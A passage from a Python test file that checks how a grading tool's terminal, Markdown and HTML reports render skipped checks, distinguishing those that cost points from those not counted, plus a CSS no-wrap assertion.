    assert re.search(r"#submissions code[^{]*\{[^}]*white-space: nowrap", style)


def test_every_report_says_when_a_skip_costs_points(graded: dict) -> None:
    doc = copy.deepcopy(graded)
    check = next(c for c in doc["checks"] if c["id"] == "cache.invalidation")
    check.update(applicable=True, points=0, message="needs cache.populates, which failed")
    note = "counts against the score (0/5 points)"
    assert note in render_terminal(doc, color=False)
    assert note in render_markdown(doc)
    assert note in render_html(doc)
    not_counted = next(c for c in doc["checks"] if c["id"] == "quality.tests")
    assert not not_counted["applicable"]
    assert "skipped (not counted)" in render_terminal(doc, color=False)
